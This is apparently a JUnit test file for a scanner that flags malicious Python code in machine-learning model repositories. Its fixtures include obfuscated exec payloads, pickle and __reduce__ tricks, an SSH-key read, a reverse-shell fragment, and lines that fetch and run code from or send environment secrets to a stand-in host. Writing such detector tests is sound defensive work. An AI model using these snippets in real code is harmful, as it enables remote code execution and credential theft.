package dev.countersign.inspect.python;

import static dev.countersign.inspect.bundle.Bundle.rules;
import static dev.countersign.inspect.bundle.Bundle.verdict;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.inspect.Inspected;
import dev.countersign.inspect.Verdict;
import dev.countersign.inspect.bundle.Bundle;
import java.io.IOException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PythonFormatTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "import os as o\ngetattr(o, 'sys' + 'tem')('id')",
        "__import__('o' + 's').system('id')",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
        "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))",
        "exec(bytes.fromhex('696d706f7274206f73').decode())",
        "eval(compile(\"import os; os.system('id')\", 'x', 'exec'))",
        "class A:\n  def __reduce__(self):\n    import subprocess as sp\n    return (sp.Popen, (['id'],))",
        "().__class__.__bases__[0].__subclasses__()[40]",
        "import urllib.request\nexec(urllib.request.urlopen('http://x.example/p').read())",
        "import socket, os\ns = socket.socket()\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]",
        "globals()['__builtins__'].__dict__['ev' + 'al'](\"__import__('os').popen('id')\")",
        "import importlib\nm = importlib.import_module(''.join(reversed('so')))\ngetattr(m, 'metsys'[::-1])('id')",
        "import requests, os\ndef f(): requests.post('https://x.example', json=dict(os.environ))",
        "import sys\nsys.modules['os'].system('x')",
        "from os import *\nsystem('x')",
        "import operator, os\noperator.attrgetter('system')(os)('id')",
        "import torch\ntorch.os.system('id')",
        "f\"{__import__('os').system('id')}\"",
        "# -*- coding: rot13 -*-\nvzcbeg bf",
        "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
        "open('/root/.ssh/id_rsa').read()",
        "import ｏｓ\nｏｓ.system('id')",
        "@__import__('os').system\ndef id(): pass",
        "def f(x: __import__('os').system('id')): pass",
        "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()",
        "if False:\n  def exec(x): pass\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
        "from functools import reduce\nimport functools, os\nfunctools.reduce(getattr, ['system'], os)('id')",
        "from ctypes import cdll\ncdll.LoadLibrary('./x.so').run()",
        "import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')",
      })
  void codeThatRunsCommandsOrHidesIsMalicious(String source) throws IOException {
    assertThat(verdict("modeling.py", source)).isEqualTo(Verdict.MALICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import os\nimport torch\nfrom torch import nn\nclass M(nn.Module):\n  def forward(self, x):\n"
            + "    return self.eval() or os.path.join('a', 'b')",
        "# os.system('id')\n'''exec(x)'''\nx = \"__import__('os').system('id')\"",
        "import re\nP = re.compile('x')\nmodel.eval()\nself.compile(optimizer='adam')",
        "import subprocess\ntry:\n  pass\nexcept subprocess.CalledProcessError: pass",
        "import torch\ndef load(path): return torch.load(path, weights_only=True)",
        "import os\ntoken = os.environ.get('HF_TOKEN')\n"
            + "def f():\n  import requests\n  return requests.get('https://huggingface.co', headers={'a': os.environ['T']})",
        "from PIL import Image\nimport requests\ndef load(url): return Image.open(requests.get(url, stream=True).raw)",
        "import subprocess\nprint(subprocess.check_output(['nvidia-smi', '-L']))",
        "print 'python two'\nexec_time = 3\ndef system(x): return x\nsystem('id')",
      })
  void codeOfModelsIsCleanWithANote(String source) throws IOException {
    Inspected inspected = Bundle.of("modeling.py", source).inspect("modeling.py");

    assertThat(inspected.verdict()).as("%s", inspected.findings()).isEqualTo(Verdict.CLEAN);
    assertThat(rules(inspected)).contains("python-code");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "def f(name): return eval(name)",
        "import requests\nrequests.get('https://x.example/ping')",
        "import os, sys\nos.system(f'pip install flash-attn')",
        "import shutil\nshutil.rmtree('/data')",
        "import os\ngetattr(os, name)('id')",
      })
  void whatNeedsAReaderIsSuspicious(String source) throws IOException {
    assertThat(verdict("modeling.py", source)).isEqualTo(Verdict.SUSPICIOUS);
  }

  @Test
  void placesAreBytesOfTheSource() throws IOException {
    Inspected inspected = Bundle.of("h.py", "# é\nimport os\nos.system('id')").inspect("h.py");

    assertThat(inspected.findings().getFirst().offset()).hasValue(15);
    assertThat(inspected.findings().getFirst().call()).contains("os.system");
  }

  @Test
  void endlessNestingIsSaidAndEnds() throws IOException {
    String deep = "x = " + "(".repeat(100_000) + "1" + ")".repeat(100_000);

    assertThat(verdict("deep.py", deep)).isEqualTo(Verdict.SUSPICIOUS);
  }

  @Test
  void loopsInLoopsDoNotTakeForever() throws IOException {
    String list =
        "x = [[[[[[0 for a in 'abcdefgh'*999] for b in x] for c in x] for d in x] for e in x] for f in x]\n";

    assertThat(verdict("loops.py", "x = 'abcdefgh' * 999\n" + list)).isEqualTo(Verdict.CLEAN);
  }
}
